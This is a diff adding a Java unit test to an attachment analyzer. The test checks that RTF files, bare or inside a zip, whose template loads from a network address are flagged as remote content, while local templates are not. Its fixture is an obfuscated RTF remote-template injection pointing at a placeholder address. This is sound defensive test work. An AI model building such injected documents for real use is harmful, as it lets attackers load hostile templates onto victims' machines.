@@ -289,6 +289,20 @@ class AttachmentContentAnalyzerTest {
     }
 
     @Test
+    void anRtfDocumentWithATemplateOnTheNetworkIsRemoteContentAndOneWithALocalTemplateIsNot() throws Exception {
+        byte[] injected = ascii("{\\rtf1\\ansi\\ansicpg1252\\deff0{\\fonttbl{\\f0 Calibri;}}"
+                + "{\\*\\template \\'68\\'74tp://203.0.113.9/\\u21209?\\u26360?.dotm}\\pard \\par}");
+        byte[] local = ascii("{\\rtf1{\\*\\template C:\\\\Templates\\\\Normal.dotm}\\pard \\par}");
+        assertThat(analyze(file("注文書.rtf", injected), file("memo.rtf", local),
+                file("sample.zip", zip("in/order.rtf", injected))))
+                .containsExactly(
+                        Finding.of("OFFICE_REMOTE_CONTENT", "注文書.rtf: template http://203.0.113.9/務書.dotm"),
+                        Finding.of("OFFICE_REMOTE_CONTENT", "sample.zip!/in/order.rtf: template http://203.0.113.9/務書.dotm"));
+        // the real RTF document of oletools' test data has no template
+        assertThat(analyze(file("issue_251.rtf", sample("oletools/issue_251.rtf")))).isEmpty();
+    }
+
+    @Test
     void aTemplateOnTheAuthorsDiskHyperlinksAndEmbeddedObjectsAreNoRemoteContent() throws Exception {
         byte[] normal = docx(template("file:///C:\\Users\\taro\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm"));
         byte[] links = docx("<Relationship Id=\"rId2\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/"
